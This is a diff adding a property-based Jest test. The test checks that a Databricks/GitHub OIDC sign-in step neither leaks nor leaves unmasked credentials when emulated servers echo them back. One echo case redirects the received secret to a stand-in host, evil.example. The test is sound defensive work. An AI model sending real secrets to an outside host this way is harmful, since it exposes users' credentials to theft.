@@ -1,0 +1,99 @@
+import { describe, expect, test } from '@jest/globals'
+import fc from 'fast-check'
+import { apiError, html, json, redirect, text, type Reply } from '../../emulator/reply.js'
+import type { RequestRecord } from '../../emulator/request-log.js'
+import { EmulatedWorkspace } from '../../emulator/workspace.js'
+import { EmulatedGitHub } from '../../emulator/github.js'
+import { CLIENT_ID, SUBJECT, signInTo } from '../e2e/sign-in/service-principal.js'
+import { findLeaks, findUnmasked } from './leak-search.js'
+import { spellingsOf } from './spellings.js'
+
+const SEED = Number(process.env['LEAK_SEED'] ?? 20261124)
+const RUNS = Number(process.env['LEAK_RUNS'] ?? 2)
+
+/** What Databricks, GitHub and Entra hand out, and stranger things that a header can carry. */
+const credential = fc.noBias(
+  fc
+    .string({
+      unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)),
+      minLength: 12,
+      maxLength: 60,
+    })
+    .filter((secret) => new Set(secret).size > 6),
+)
+
+/** How somebody who was sent credentials shows them. */
+const ECHOES: readonly (readonly [string, (sent: string) => Reply])[] = [
+  [
+    'as OAuth tells errors',
+    (sent) => json(400, { error: 'invalid_request', error_description: `Got ${sent}` }),
+  ],
+  [
+    'as its code',
+    (sent) => json(401, { error: sent.replace(/\W/g, '').slice(0, 64), error_description: 'No.' }),
+  ],
+  ['as Databricks tells errors', (sent) => apiError(401, 401, sent)],
+  ['in a page', (sent) => html(502, `<pre>${sent}</pre>`)],
+  ['as text', (sent) => text(500, sent)],
+  ['in a redirect', (sent) => redirect(`https://evil.example/?${encodeURIComponent(sent)}`)],
+  ['under status 200', (sent) => text(200, sent)],
+  ['as a token that is none', (sent) => json(200, { access_token: `a b ${sent}`, value: `a b ${sent}` })],
+]
+
+function everythingSent({ headers, rawBody }: RequestRecord): string {
+  const form = [...new URLSearchParams(rawBody.toString()).values()].join(' ')
+  const { authorization = '' } = headers
+  const basic = Buffer.from(authorization.replace(/^Basic /, ''), 'base64').toString()
+  return [
+    authorization,
+    decodeURIComponent(/^[\x20-\x7e]*$/.test(basic) ? basic.replace(/%(?![\dA-F]{2})/g, '%25') : ''),
+    rawBody.toString(),
+    form,
+  ].join(' ')
+}
+
+// A credential opens more than any value of the map.
+describe.each([
+  '/oidc/.well-known/oauth-authorization-server',
+  '/oidc/v1/token',
+  '/token',
+  '/api/2.0/secrets/scopes/list',
+])('who is asked at %s', (where) => {
+  test.each(ECHOES)('shows credentials %s, and we do not', async (_, answer) => {
+    await fc.assert(
+      fc.asyncProperty(credential, credential, fc.boolean(), async (clientSecret, requestToken, bySecret) => {
+        const github = await EmulatedGitHub.start({ subject: SUBJECT, requestToken })
+        const { issuer, jwksUri } = github
+        const policies = [{ issuer, subject: SUBJECT, jwksUri, audiences: ['fake-audience'] }]
+        const workspace = await EmulatedWorkspace.start({
+          servicePrincipals: [{ applicationId: CLIENT_ID, clientSecrets: [clientSecret], policies }],
+        })
+        const credentials = new Set([clientSecret, requestToken])
+        for (const side of [workspace, github]) {
+          side.intercept((request, perform) => {
+            const issued = perform()
+            for (const [token] of String(issued.body).matchAll(
+              /fake-access-token-[\w-]+|ey[\w-]+\.[\w-]+\.[\w-]+/g,
+            )) {
+              if (request.path !== where) credentials.add(token)
+            }
+            return request.path === where ? answer(everythingSent(request)) : undefined
+          })
+        }
+        const inputs = {
+          'client-id': CLIENT_ID,
+          ...(bySecret ? { 'client-secret': clientSecret } : { 'token-audience': 'fake-audience' }),
+        }
+        const step = await signInTo({ workspace }, inputs, { runnerVariables: github.variables })
+        await Promise.all([workspace.close(), github.close()])
+        const used = bySecret ? credentials : [...credentials].filter((each) => each !== clientSecret)
+        const spellings = [...used].flatMap((each) => spellingsOf(Buffer.from(each)))
+        expect([...findLeaks(step, spellings), ...findUnmasked(step, spellings)].slice(0, 5)).toEqual([])
+        // With a client's secret, GitHub has no part in it.
+        const asked = [...workspace.requests.all, ...github.requests.all].some(({ path }) => path === where)
+        expect(asked).toBe(!(bySecret && where === '/token'))
+      }),
+      { seed: SEED, numRuns: RUNS, endOnFailure: true },
+    )
+  })
+})
